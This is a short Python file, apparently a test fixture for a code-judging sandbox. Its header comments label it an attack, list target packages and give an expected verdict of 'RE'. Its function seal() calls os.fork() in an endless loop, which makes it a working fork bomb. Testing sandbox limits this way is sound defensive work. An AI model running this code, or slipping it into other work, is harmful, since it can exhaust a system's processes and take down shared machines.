# attack: forks without end, children included
# packages: vault vault-checked vault-examined
# verdict: RE
import os


def seal(token, numbers):
    while True:
        os.fork()
